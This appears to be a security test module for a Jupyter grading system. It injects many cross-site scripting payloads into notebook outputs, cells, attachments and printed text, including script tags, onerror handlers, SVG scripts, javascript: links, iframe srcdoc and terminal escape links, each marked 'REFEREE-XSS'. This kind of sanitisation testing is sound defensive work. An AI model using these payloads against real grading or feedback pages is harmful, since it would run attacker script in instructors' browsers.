# Writes scripts into markdown cells, outputs, sources, ids and prints, so that the feedback page or
# formgrader runs them in the browser of the instructor.
# %% from attacks/parts/stand_ins.py
# %% relu
from IPython.display import HTML, SVG, Javascript, Markdown, display

script = "<script>document.title = 'REFEREE-XSS'</script><img src=x onerror=\"document.title='REFEREE-XSS'\">"
for kind in (HTML, Markdown, lambda text: Javascript("document.title = 'REFEREE-XSS'")):
    display(kind(script))
display(
    SVG(
        '<svg xmlns="http://www.w3.org/2000/svg"><script>document.title="REFEREE-XSS"</script></svg>'
    )
)
display({"text/latex": "$$\\href{javascript:document.title='REFEREE-XSS'}{x}$$"}, raw=True)
display(
    {"image/png": '"><script>REFEREE-XSS</script>', "application/vnd.plotly.v1+json": {}}, raw=True
)
print(script, "\x1b]8;;javascript:alert('REFEREE-XSS')\x07link\x1b]8;;\x07\x1b[31m" + script)


def attack():
    display(HTML(script))
    deed()  # after all of the above, else this is not defined
    return script


# %% [notebook]
import nbformat

script = "<script>document.title = 'REFEREE-XSS'</script>"
text = nbformat.v4.new_markdown_cell(
    f"# {script}\n[link](javascript:alert('REFEREE-XSS'))\n\n</div></body>{script}"
    "<iframe srcdoc=\"<script>parent.document.title='REFEREE-XSS'</script>\"></iframe>"
)
text.attachments = {"x.png": {"image/png": f'">{script}'}}
notebook.cells.insert(0, text)
notebook.cells.insert(1, nbformat.v4.new_raw_cell(script, metadata={"format": "text/html"}))
notebook.cells.insert(2, nbformat.v4.new_code_cell(f"# </pre>{script}\n'''</script>{script}'''"))
deed()
